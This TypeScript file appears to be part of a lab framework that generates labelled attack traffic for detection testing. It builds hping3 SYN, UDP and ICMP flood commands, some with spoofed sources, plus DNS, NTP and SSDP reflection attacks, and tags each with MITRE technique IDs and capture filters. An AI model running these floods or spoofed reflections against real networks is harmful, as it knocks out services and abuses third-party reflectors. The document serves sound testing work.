/** More than a target can answer: hping3, and small questions in the victim's name. Bounded in count and time. */
import { PYTHON } from '../agent.ts';
import type { Attack } from '../attack.ts';
import type { Day } from '../day.ts';
import type { Host } from '../house.ts';
import { FRAMES } from './spoofing.ts';

function flood(
  name: string,
  technique: string,
  rules: readonly string[],
  options: (day: Day) => readonly string[],
  filter: string,
  perSecond: readonly [low: number, high: number],
): Attack {
  return {
    name,
    technique,
    rules,
    also: [
      'traffic-burst',
      'volume-spike',
      'connection-storm',
      'host-scan',
      'syn-flood',
      'udp-flood',
      'icmp-flood',
    ],
    needs: ['hping3'],
    async run(day) {
      const { choices, house } = day;
      // Half of the floods leave the network, as a bot's do.
      const outward = choices.next() < 0.5;
      const attacker = outward ? day.thing() : day.host('intruder');
      const victim = day.resident(attacker.name);
      const target = outward ? `203.0.113.${choices.int(100, 199)}` : victim.ip;
      const rate = choices.int(...perSecond);
      const seconds = choices.int(7, 10);
      const command = [
        ...['hping3', '-q', '-n', '-i', `u${Math.round(1e6 / rate)}`, '-c', String(rate * seconds)],
        ...[...options(day), target],
      ];
      await house.lab.attempt(attacker.name, command, (seconds + 4) * 1000);
      return {
        actors: [attacker.mac, attacker.ip],
        targets: outward ? [target] : [victim.mac, victim.ip],
        filter: `ether src ${attacker.mac} and ip dst ${target} and ${filter}`,
        tool: command.join(' '),
      };
    },
  };
}

type Reflector = Pick<Host, 'mac' | 'ip'>;

function reflection(
  name: string,
  port: number,
  reflectorOf: (day: Day) => Reflector | Promise<Reflector>,
  victimOf: (day: Day) => string,
): Attack {
  return {
    name,
    technique: 'T1498.002',
    rules: ['amplification'],
    also: ['udp-flood', 'traffic-burst', 'volume-spike'],
    async run(day) {
      const { lab, router } = day.house;
      const attacker = day.host('intruder');
      const reflector = await reflectorOf(day);
      // What is asked for is elsewhere: the frame goes to the router when the reflector does not live here.
      const mac = reflector.mac === '' ? router.mac : reflector.mac;
      const victim = victimOf(day);
      const count = day.choices.int(600, 1200);
      const command = [
        PYTHON,
        FRAMES,
        'reflect',
        victim,
        mac,
        reflector.ip,
        String(port),
        String(count),
        '0.008',
      ];
      await lab.attempt('intruder', command, 25_000);
      return {
        // The one who asks cannot be told from its victim; the one who answers is abused.
        actors: [attacker.mac, attacker.ip, victim, reflector.mac, reflector.ip].filter(
          (text) => text !== '',
        ),
        targets: [victim, reflector.mac, reflector.ip].filter((text) => text !== ''),
        filter: `udp and src host ${victim} and dst port ${port}`,
        tool: `${count} questions to ${reflector.ip} port ${port} with the source ${victim} (send/frames.py)`,
      };
    },
  };
}

export const FLOODS: readonly Attack[] = [
  flood(
    'syn-flood',
    'T1499.001',
    ['syn-flood'],
    ({ choices }) => ['-S', '-p', String(choices.pick([80, 443, 22, 5000]))],
    'tcp',
    [400, 900],
  ),
  flood(
    'syn-flood-spoofed',
    'T1499.001',
    ['syn-flood'],
    () => ['-S', '--rand-source', '-p', '80'],
    'tcp',
    [400, 900],
  ),
  flood(
    'udp-flood',
    'T1498.001',
    ['udp-flood'],
    ({ choices }) => ['--udp', '-p', String(choices.int(1000, 60000)), '-d', String(choices.int(40, 400))],
    'udp',
    [3000, 5000],
  ),
  flood(
    'icmp-flood',
    'T1498.001',
    ['icmp-flood'],
    ({ choices }) => ['--icmp', '-d', String(choices.int(40, 800))],
    'icmp',
    [300, 900],
  ),
  reflection('dns-reflection', 53, ({ house }) => house.router, neighbour),
  reflection(
    'ntp-reflection',
    123,
    async ({ house }) => {
      await house.internet.do({ do: 'serve', kind: 'monlist', port: 123, address: house.dropZone });
      return { mac: '', ip: house.dropZone };
    },
    neighbour,
  ),
  reflection('ssdp-reflection', 1900, openResponder, ({ choices }) => `203.0.113.${choices.int(100, 199)}`),
];

/** The answers cross the LAN when their victim lives on it. */
function neighbour(day: Day): string {
  return day.resident().ip;
}

async function openResponder(day: Day): Promise<Reflector> {
  const thing = day.thing();
  await thing.agent.do({ do: 'serve', kind: 'ssdp', port: 1900 });
  return thing;
}
